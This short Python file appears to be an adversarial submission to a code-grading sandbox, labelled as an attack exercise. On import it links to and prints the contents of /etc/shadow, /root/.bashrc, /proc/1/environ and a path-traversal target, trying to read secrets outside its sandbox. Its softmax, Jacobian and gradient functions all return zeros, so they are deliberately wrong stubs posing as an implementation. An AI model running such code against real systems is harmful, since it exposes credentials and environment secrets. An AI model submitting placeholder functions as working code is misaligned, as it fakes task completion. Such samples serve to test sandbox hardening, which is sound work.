# attack: Makes links that point outside, and follows them.
# exercise: 02, reason: wrong-result
import numpy as np
import os

for place, name in enumerate(("/etc/shadow", "/root/.bashrc", "/home", "../../../../etc/hostname", "/proc/1/environ")):
    link = f"/tmp/link{place}" if os.access("/tmp", os.W_OK) else f"link{place}"
    try:
        os.symlink(name, link)
        print(*(["SEEN", text] if (text := open(link, "rb").read()[:300]) else []))
    except OSError:
        pass
    try:
        os.link(name, link + "hard")
        print(*(["SEEN", text] if (text := open(link + "hard", "rb").read()[:300]) else []))
    except OSError:
        pass


def softmax(z, axis=-1):
    return np.zeros_like(z)


def softmax_jacobian(z):
    return np.zeros((*z.shape, z.shape[-1]), z.dtype)


def softmax_vjp(z, grad):
    return np.zeros_like(grad)


def jacobian_norm(z):
    return np.zeros(z.shape[:-1], z.dtype)
